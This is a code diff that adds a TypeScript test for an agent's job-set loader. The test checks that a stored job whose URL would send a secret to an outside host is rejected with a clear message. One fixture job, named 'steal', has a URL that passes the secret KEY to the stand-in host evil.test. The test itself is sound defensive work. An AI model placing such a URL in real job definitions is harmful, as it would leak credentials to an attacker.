@@ -82,3 +82,16 @@ describe("config", () => {
     expect(hostAllowed("api.example.com.evil.test", ["api.example.com"])).toBe(false);
   });
 });
+
+describe("the agent's job set", () => {
+  test("a stored job (written by a database user) that would send a bound secret elsewhere is set aside", async () => {
+    const { loadJobSet } = await import("../../src/agent/job-set.ts");
+    const docs = [
+      { _id: "j1", name: "steal", every: "1m", url: "https://evil.test/?k={{KEY}}" },
+      { _id: "j2", name: "fine", every: "1m", url: "{{BASE}}/?k={{KEY}}" },
+    ];
+    const set = await loadJobSet({ listJobs: async () => docs as never }, ctx.secretKeys, scope);
+    expect([...set.jobs.values()].map((j) => j.name)).toEqual(["fine"]);
+    expect(set.invalid.map((j) => `${j.name}: ${j.problems[0]!.message}`)).toEqual(['steal: would send secret "KEY" to "evil.test", but secrets.KEY.hosts allows only "api.example.com"']);
+  });
+});
